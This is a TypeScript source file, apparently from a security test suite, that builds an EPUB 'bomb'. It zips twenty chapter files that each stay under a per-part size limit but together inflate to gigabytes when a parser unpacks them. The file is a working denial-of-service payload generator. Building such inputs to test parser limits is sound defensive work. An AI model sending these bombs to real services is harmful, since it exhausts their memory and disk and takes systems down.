// A book is an archive whose chapters a parser inflates one after the other: each is within a limit
// per part, but all of them together are not.
import { buildFileBomb } from "../../families/file-bomb.ts";
import { buildZip } from "../../zip.ts";

const CHAPTER_COUNT = 20;
const CONTAINER = `<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`;
const numbers = Array.from({ length: CHAPTER_COUNT }, (_, number) => number);
const BOOK = `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest>${numbers.map((number) => `<item id="c${number}" href="c${number}.xhtml" media-type="application/xhtml+xml"/>`).join("")}</manifest><spine>${numbers.map((number) => `<itemref idref="c${number}"/>`).join("")}</spine></package>`;

export const fileEpubBomb = buildFileBomb({
  name: "file-epub-bomb",
  attack: "a book whose chapters inflate to gigabytes together",
  type: "application/epub+zip",
  build: (megabytes) =>
    buildZip([
      { name: "mimetype", data: Buffer.from("application/epub+zip") },
      { name: "META-INF/container.xml", data: Buffer.from(CONTAINER) },
      { name: "book.opf", data: Buffer.from(BOOK) },
      ...numbers.map((number) => ({
        name: `c${number}.xhtml`,
        data: Buffer.alloc((megabytes / CHAPTER_COUNT) * 1_048_576, "<p>a "),
      })),
    ]),
});
